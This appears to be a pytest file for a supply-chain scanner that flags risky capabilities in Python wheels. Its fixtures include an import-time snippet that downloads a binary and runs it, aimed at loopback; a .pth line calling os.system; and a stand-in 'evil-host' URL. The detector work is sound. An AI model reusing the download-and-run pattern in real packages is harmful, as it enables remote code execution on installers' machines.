"""Capabilities from the scan of built archives, and what a release added."""

from __future__ import annotations

from pathlib import Path

from guard.analysis.capabilities import Capability, added, capabilities, hosts
from guard.analysis.scan import scan_archive
from tests.fakepypi import build_wheel, wheel_filename

PLAIN = '"""A helper."""\n\n\ndef add(a, b):\n    return a + b\n'
# Benign by construction: 127.0.0.1 port 9 (discard), and none of it ever runs.
DOWNLOAD_RUN = """\
import os, subprocess, tempfile, urllib.request
_exe = os.path.join(tempfile.gettempdir(), "helper.bin")
urllib.request.urlretrieve("http://127.0.0.1:9/helper.bin", _exe)
subprocess.Popen([_exe])
"""
CALLS_HOME_IN_FUNCTION = """\
import subprocess
import urllib.request


def fetch(url="https://api.upstream.example.org/v1"):
    return urllib.request.urlopen(url).read()


def run(args):
    return subprocess.run(["git", *args], check=True)
"""


def scanned(tmp_path: Path, version: str, files: dict[str, str], pth: str | None = None):  # type: ignore[no-untyped-def]
    name = "capdemo"
    path = tmp_path / wheel_filename(name, version)
    path.write_bytes(build_wheel(name, version, files=files, pth=pth))
    return scan_archive(path, path.name)


def whats(caps: frozenset[Capability] | tuple[Capability, ...]) -> set[tuple[str, str]]:
    return {c.key for c in caps}


def test_plain_package_has_no_capability(tmp_path: Path) -> None:
    result = scanned(tmp_path, "1.0", {"capdemo/__init__.py": PLAIN})
    assert capabilities(result) == frozenset()


def test_import_time_download_and_run_is_seen_with_evidence(tmp_path: Path) -> None:
    result = scanned(tmp_path, "1.0", {"capdemo/__init__.py": DOWNLOAD_RUN})
    caps = capabilities(result)
    keys = whats(caps)
    assert ("network", "import") in keys
    assert ("process", "import") in keys
    network = next(c for c in caps if c.key == ("network", "import"))
    assert network.dangerous
    assert any(where.startswith("capdemo/__init__.py:") for where, _ in network.evidence)
    assert any("urlretrieve" in what for _, what in network.evidence)


def test_calls_inside_functions_are_runtime_and_not_dangerous_alone(tmp_path: Path) -> None:
    for where in ("capdemo/__init__.py", "capdemo/client.py"):
        result = scanned(tmp_path, "1.0", {where: CALLS_HOME_IN_FUNCTION})
        caps = capabilities(result)
        assert ("network", "runtime") in whats(caps), (where, caps)
        assert not any(c.dangerous for c in caps), (where, caps)


def test_pth_file_is_a_capability(tmp_path: Path) -> None:
    result = scanned(tmp_path, "1.0", {}, pth="import os; os.system('true')\n")
    assert any(c.what == "pth" for c in capabilities(result))


def test_added_is_what_the_new_release_gained(tmp_path: Path) -> None:
    old = scanned(tmp_path, "1.0", {"capdemo/__init__.py": PLAIN})
    new = scanned(tmp_path, "1.0.1", {"capdemo/__init__.py": DOWNLOAD_RUN})
    gained = added(capabilities(new), capabilities(old))
    assert ("network", "import") in whats(gained)
    assert gained[0].dangerous  # dangerous first


def test_same_capabilities_add_nothing(tmp_path: Path) -> None:
    old = scanned(tmp_path, "1.0", {"capdemo/__init__.py": DOWNLOAD_RUN})
    # the same code, moved within the file and repeated: nothing new
    moved = "# moved\n\n" + DOWNLOAD_RUN + DOWNLOAD_RUN.splitlines()[-1] + "\n"
    new = scanned(tmp_path, "1.0.1", {"capdemo/__init__.py": moved})
    assert capabilities(old)
    assert added(capabilities(new), capabilities(old)) == ()


def test_hosts_skip_loopback_and_reserved_names() -> None:
    text = (
        "urlopen('http://127.0.0.1:9/x'); get('https://Files.Evil-Host.net:8443/a'); "
        "get('http://[::1]:30000/'); get('http://collector.invalid/k'); get('http://localhost/'); "
        "get('http://[2001:db8::5]:8080/x')"
    )
    assert hosts(text) == frozenset({"files.evil-host.net", "[2001:db8::5]"})


def test_reading_a_secret_named_variable_is_not_dangerous_alone(tmp_path: Path) -> None:
    init = 'import os\nREDACT = os.getenv("APP_DISABLE_REDACT_SECRETS", "") != "true"\n'
    old = scanned(tmp_path, "1.0", {"capdemo/__init__.py": PLAIN})
    new = scanned(tmp_path, "1.0.1", {"capdemo/__init__.py": init})
    gained = added(capabilities(new), capabilities(old))
    assert ("secret-env", "import") in whats(gained)
    assert not any(c.dangerous for c in gained)


def test_code_generation_at_import_is_not_dangerous(tmp_path: Path) -> None:
    init = 'namespace = {}\ncode = "def plural(n):\\n    return n != 1"\nexec(code, namespace)\n'
    old = scanned(tmp_path, "1.0", {"capdemo/__init__.py": PLAIN})
    new = scanned(tmp_path, "1.0.1", {"capdemo/__init__.py": init})
    gained = added(capabilities(new), capabilities(old))
    assert ("exec", "import") in whats(gained)
    assert not any(c.dangerous for c in gained)
